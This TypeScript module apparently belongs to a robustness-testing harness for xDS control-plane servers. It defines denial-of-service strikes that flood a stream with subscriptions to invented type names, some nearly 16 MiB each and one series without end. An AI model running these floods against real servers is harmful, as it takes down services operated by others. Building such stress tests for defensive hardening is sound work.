import type { Attack, Strike } from '../attack.js';
import { aborted } from '../pace.js';
import { Asker } from '../wire/asker.js';
import { deltaRequest, node, sotwRequest } from '../wire/messages.js';

/** The name of an invented type. */
function invented(n: number, bytes: number): Buffer {
  const url = Buffer.alloc(bytes, 't');
  url.write(`type.googleapis.com/no.such.Type${n}.`);
  return url;
}

const types =
  (protocol: 'delta' | 'sotw', count: number, bytes: number): Strike =>
  async (target, signal, tell) => {
    const asker = new Asker(protocol, target);
    tell(() => String(asker));
    const request = protocol === 'delta' ? deltaRequest : sotwRequest;
    for (let n = 0; n < count && !signal.aborted; n += 1) {
      const typeUrl = invented(n, bytes).toString('latin1');
      if (!(await asker.send(request({ node: node({ id: 'attacker' }), typeUrl, subscribe: ['a'] })))) break;
    }
    await aborted(signal);
    asker.close();
  };

/** More bytes than a message may have would be refused at once. */
const NEARLY_16_MIB = 16 * 2 ** 20 - 1_000;

export const TYPES: readonly Attack[] = [
  {
    name: '31 invented types with names of 16 MB on a stream (delta)',
    strike: types('delta', 31, NEARLY_16_MIB),
  },
  {
    name: '31 invented types with names of 16 MB on a stream (SotW)',
    strike: types('sotw', 31, NEARLY_16_MIB),
  },
  { name: 'invented types without end on a stream', strike: types('delta', Number.POSITIVE_INFINITY, 100) },
];
